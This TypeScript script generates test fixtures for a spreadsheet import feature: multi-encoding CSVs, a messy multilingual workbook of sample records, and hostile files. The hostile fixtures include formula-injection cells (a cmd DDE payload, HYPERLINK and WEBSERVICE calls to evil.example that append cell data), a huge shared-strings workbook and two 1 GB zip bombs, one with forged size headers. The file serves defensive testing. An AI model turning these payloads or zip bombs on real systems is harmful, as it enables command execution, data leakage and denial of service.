// Writes the messy spreadsheets the import is tested on into e2e/fixtures/
// (the outputs are committed): `npx tsx scripts/make-import-fixtures.ts`.
// Everything is deterministic, so running it again changes nothing but zip timestamps.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { strToU8, Zip, ZipDeflate, zipSync } from 'fflate';

const out = path.resolve(import.meta.dirname, '../e2e/fixtures');
fs.mkdirSync(out, { recursive: true });
const write = (name: string, bytes: Uint8Array | string) => fs.writeFileSync(path.join(out, name), bytes);

/** Twelve people of three languages; Amélie and Ahmed carry the characters encodings break. */
const people = [
  ['Amélie', 'Dubois', 'F', '14/03/1985', 'FR-1001', '+33 6 12 34 56 78'],
  ['Jean-François', 'Lefèvre', 'H', '02/11/1990', 'FR-1002', '06 98 76 54 32'],
  ['أحمد', 'الحسن', 'ذكر', '25/12/1978', 'DZ-2001', '0555 12 34 56'],
  ['فاطمة', 'الزهراء', 'أنثى', '01/01/2001', 'DZ-2002', ''],
  ['Grace', 'Achieng', 'female', '30/06/1995', 'KE-3001', '+254 712 345678'],
  ['Otieno', 'Ouma', 'male', '17/08/1988', 'KE-3002', '0722 000111'],
  ['Zoé', 'Müller', 'F', '05/05/2010', 'CH-4001', ''],
  ['Noël', 'Garçon', 'M', '24/12/1969', 'FR-1003', ''],
  ['Chloé', 'Bénard', '2', '13/07/1999', 'FR-1004', ''],
  ['Émile', 'Zola', '1', '02/04/1940', 'FR-1005', ''],
  ['Awa', 'Diallo', 'femme', '31/10/2003', 'SN-5001', '+221 77 123 45 67'],
  ['Moussa', 'Traoré', 'homme', '15/02/1975', 'ML-6001', ''],
];

function csv(rows: string[][], delimiter: string): string {
  const quote = (cell: string) => (/["\r\n]/.test(cell) || cell.includes(delimiter) ? `"${cell.replace(/"/g, '""')}"` : cell);
  return rows.map((row) => row.map(quote).join(delimiter)).join('\r\n') + '\r\n';
}

function utf16(text: string, order: 'le' | 'be', bom: boolean): Uint8Array {
  const bytes = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  let at = 0;
  const put = (code: number) => {
    bytes[at++] = order === 'le' ? code & 0xff : code >> 8;
    bytes[at++] = order === 'le' ? code >> 8 : code & 0xff;
  };
  if (bom) put(0xfeff);
  for (let i = 0; i < text.length; i++) put(text.charCodeAt(i));
  return bytes;
}

/** Windows-1252 for the Latin rows (Arabic has no place in it). */
function cp1252(text: string): Uint8Array {
  const special: Record<string, number> = { '€': 0x80, '’': 0x92, œ: 0x9c, Œ: 0x8c };
  return Uint8Array.from([...text].map((char) => special[char] ?? (char.charCodeAt(0) <= 0xff ? char.charCodeAt(0) : 0x3f)));
}

const french = ['Prénom', 'Nom de famille', 'Sexe', 'Date de naissance', "Numéro d'identité", 'Téléphone'];
const english = ['First name', 'Last name', 'Sex', 'Date of birth', 'National ID', 'Phone'];
const latin = people.filter((p) => /^[\p{Script=Latin}\s-]+$/u.test(p[0]!));

// Encodings and BOMs, all with day-first dates.
write('people-utf8-bom.csv', '\ufeff' + csv([french, ...people], ','));
write('people-utf8.csv', csv([english, ...people], ','));
write('people-utf16le-bom.tsv', utf16(csv([english, ...people], '\t'), 'le', true));
write('people-utf16be.csv', utf16(csv([french, ...people], ';'), 'be', false));
write('people-cp1252.csv', cp1252(csv([french, ...latin], ';')));
// Month-first dates from a US export; and one where no day is above 12, so the order must be asked.
write(
  'people-us-dates.csv',
  csv(
    [
      ['First name', 'Last name', 'Gender', 'DOB'],
      ['Mary', 'Smith', 'female', '12/31/1980'],
      ['John', 'Brown', 'male', '07/04/1976'],
    ],
    ',',
  ),
);
write(
  'people-ambiguous-dates.csv',
  csv(
    [
      ['First name', 'Last name', 'Gender', 'DOB'],
      ['Ana', 'Lopez', 'F', '03/04/1980'],
      ['Luis', 'Garcia', 'M', '05/06/1976'],
    ],
    ',',
  ),
);

const serialOf = (ddmmyyyy: string) => {
  const [d, m, y] = ddmmyyyy.split('/').map(Number);
  return (Date.UTC(y!, m! - 1, d!) - Date.UTC(1899, 11, 30)) / 86_400_000;
};
const dateOf = (ddmmyyyy: string) => {
  const [d, m, y] = ddmmyyyy.split('/').map(Number);
  return new Date(Date.UTC(y!, m! - 1, d!));
};

/**
 * The messy workbook: a merged title and a merged group header above the
 * real headers, real dates and bare Excel serial numbers, formulas with
 * cached results, a 2,000-character cell, a repeated national ID, a sheet
 * with Arabic headers, past sessions, and blank rows at the end.
 */
async function messyWorkbook() {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Beneficiaries');
  sheet.addRow(['Registre des bénéficiaires — Clinique de Kisumu']);
  sheet.mergeCells('A1:H1');
  sheet.addRow(['Identity', '', '', '', 'Contact', '', '', '']);
  sheet.mergeCells('A2:D2');
  sheet.mergeCells('E2:H2');
  sheet.addRow(['First name', 'Last name', 'Sex', 'Date of birth', 'National ID', 'Phone', 'Full name', 'Notes']);
  people.forEach(([given, family, sex, birth, nid, phone], i) => {
    const r = sheet.rowCount + 1;
    const row = sheet.addRow([
      given,
      family,
      sex,
      // Half as dates, half as bare serial numbers (a column Excel never formatted).
      i % 2 === 0 ? dateOf(birth!) : serialOf(birth!),
      nid,
      phone,
      { formula: `A${r}&" "&B${r}`, result: `${given} ${family}` },
      i === 0 ? 'Long history: ' + 'x'.repeat(1986) : '',
    ]);
    if (i % 2 === 0) row.getCell(4).numFmt = 'dd/mm/yyyy';
  });
  // The same national ID as the first person: a duplicate within the file.
  sheet.addRow([
    'Amelie',
    'Dubois-Martin',
    'F',
    dateOf('14/03/1985'),
    'FR-1001',
    '',
    { formula: 'A16&" "&B16', result: 'Amelie Dubois-Martin' },
    '',
  ]);
  // A row with problems: no family name, an unknown sex code, a date that does not exist.
  sheet.addRow(['Solo', '', 'Z', '31/02/1990', 'XX-1', '', '', '']);
  // Blank rows at the end, as left by a deleted table (formatted but empty).
  for (let i = 0; i < 5; i++) sheet.addRow(['', '', '', '', '', '', '', '']).getCell(1).numFmt = '@';

  const arabic = workbook.addWorksheet('عربي');
  arabic.addRow(['الاسم', 'اسم العائلة', 'الجنس', 'تاريخ الميلاد', 'رقم الهوية', 'رقم الهاتف']);
  arabic.addRow(['يوسف', 'بن علي', 'ذكر', dateOf('09/09/1992'), 'TN-7001', '+216 20 123 456']);
  arabic.addRow(['مريم', 'السعدي', 'أنثى', serialOf('18/01/1987'), 'TN-7002', '']);
  arabic.getCell('D2').numFmt = 'dd/mm/yyyy';

  const sessions = workbook.addWorksheet('Sessions');
  sessions.addRow(['National ID', 'Session date', 'Time', 'Session type', 'Attendance', 'Outcome', 'Notes']);
  sessions.addRow(['FR-1001', dateOf('10/01/2024'), '09:30', 'Counselling', 'present', 'Follow-up agreed', '']);
  sessions.addRow(['KE-3001', dateOf('11/01/2024'), '14:00', 'Counselling', 'absent', '', '']);
  sessions.addRow(['DZ-2001', serialOf('12/01/2024'), '10:00', 'Counselling', 'present', '', 'Interpreter present']);
  sessions.addRow(['NO-SUCH-ID', dateOf('12/01/2024'), '10:00', 'Counselling', 'present', '', '']);
  sessions.addRow(['KE-3002', dateOf('13/01/2024'), '11:00', 'Yoga on the moon', 'present', '', '']);
  sessions.getColumn(2).numFmt = 'dd/mm/yyyy';
  write('messy.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer()));
}

/** For the end-to-end test: one header the guess cannot know ("ID card"), and one row to fix. */
async function e2eWorkbook() {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('People');
  sheet.addRow(['First name', 'Surname', 'Gender', 'DOB', 'ID card', 'Mobile', 'Remarks']);
  sheet.addRow(['Wanjiru', 'Kamau', 'F', dateOf('12/05/1991'), 'KE-9001', '+254 700 111222', '']);
  sheet.addRow(['Baraka', 'Mwangi', 'M', dateOf('03/09/1984'), 'KE-9002', '', '=HYPERLINK("http://evil.example","click")']);
  sheet.addRow(['Nafula', '', 'F', dateOf('22/02/2000'), 'KE-9003', '', 'no surname']);
  sheet.addRow(['Kiprop', 'Chebet', 'M', dateOf('30/11/1979'), 'KE-9001', '', 'same ID as Wanjiru']);
  sheet.getColumn(4).numFmt = 'dd/mm/yyyy';
  write('e2e-people.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer()));
}

/** Cells that are formulas-in-waiting (text starting with =, +, -, @) and a real formula: all must arrive as text. */
async function injectionWorkbook() {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('People');
  sheet.addRow(['First name', 'Last name', 'Sex', 'Notes']);
  sheet.addRow(["=cmd|' /C calc'!A0", 'Injection', 'F', '=HYPERLINK("http://evil.example/?"&A1,"Click me")']);
  sheet.addRow(['+SUM(1,2)', 'Plus', 'M', '@SUM(A1:A2)']);
  sheet.addRow(['Formula', 'Cached', 'F', { formula: 'WEBSERVICE("http://evil.example")', result: 'cached text' }]);
  write('hostile-injection.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer()));
}

// The smallest parts a workbook needs, for the hand-made hostile ones.
const parts = {
  '[Content_Types].xml':
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
  '_rels/.rels':
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  'xl/workbook.xml':
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels':
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
};
const sheetXml = (rows: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;

/** Three million shared strings (small when zipped, slow and large when read). */
function hugeStrings() {
  const count = 3_000_000;
  const strings: string[] = [
    `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${count}" uniqueCount="${count}">`,
  ];
  for (let i = 0; i < count; i++) strings.push(`<si><t>s${i}</t></si>`);
  strings.push('</sst>');
  const files: Record<string, Uint8Array> = {};
  for (const [name, text] of Object.entries(parts)) files[name] = strToU8(text);
  files['xl/worksheets/sheet1.xml'] = strToU8(sheetXml('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'));
  files['xl/sharedStrings.xml'] = strToU8(strings.join(''));
  write('hostile-huge-strings.xlsx', zipSync(files, { level: 9 }));
}

/** A sheet that inflates to 1 GB of blanks. `lying`: the zip's headers claim a few bytes. */
function zipBomb(name: string, lying: boolean) {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, chunk) => {
    if (error) throw error;
    chunks.push(chunk);
  });
  for (const [file, text] of Object.entries(parts)) {
    const entry = new ZipDeflate(file, { level: 9 });
    zip.add(entry);
    entry.push(strToU8(text), true);
  }
  const sheet = new ZipDeflate('xl/worksheets/sheet1.xml', { level: 9 });
  zip.add(sheet);
  sheet.push(strToU8(sheetXml('<row r="1"><c r="A1" t="inlineStr"><is><t>')));
  const blanks = new Uint8Array(16 * 1024 * 1024).fill(0x20);
  for (let i = 0; i < 64; i++) sheet.push(blanks);
  sheet.push(strToU8('</t></is></c></row>'), true);
  zip.end();
  const bytes = Buffer.concat(chunks);
  if (lying) {
    // Rewrite every declared uncompressed size (local data descriptors and central directory) to 1,000 bytes.
    for (let i = 0; i + 4 <= bytes.length; i++) {
      const signature = bytes.readUInt32LE(i);
      if (signature === 0x08074b50) bytes.writeUInt32LE(1000, i + 12);
      else if (signature === 0x02014b50) bytes.writeUInt32LE(1000, i + 24);
    }
  }
  write(name, bytes);
}

await messyWorkbook();
await e2eWorkbook();
await injectionWorkbook();
hugeStrings();
zipBomb('hostile-zip-bomb.xlsx', false);
zipBomb('hostile-zip-bomb-lying.xlsx', true);
console.log(`Wrote ${fs.readdirSync(out).length} fixtures to ${out}`);
